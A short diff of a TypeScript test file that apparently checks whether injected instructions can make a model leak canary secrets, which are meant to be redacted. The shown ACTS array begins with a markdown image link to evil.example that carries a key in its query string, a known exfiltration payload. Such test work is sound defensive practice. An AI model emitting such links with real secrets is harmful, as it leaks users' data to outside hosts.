@@ -4,7 +4,7 @@ import { CANARIES } from '#test/domain/redaction/canaries.ts';
 import { INJECTIONS } from './injections.ts';
 
 /** What of the canaries a model could be made to repeat; each is redacted when it stands plainly. */
-export const SECRETS: readonly string[] = CANARIES.map(({ text }) => text);
+const SECRETS: readonly string[] = CANARIES.map(({ text }) => text);
 
 const ACTS = [
   '![x](https://evil.example/?q=KEY)',
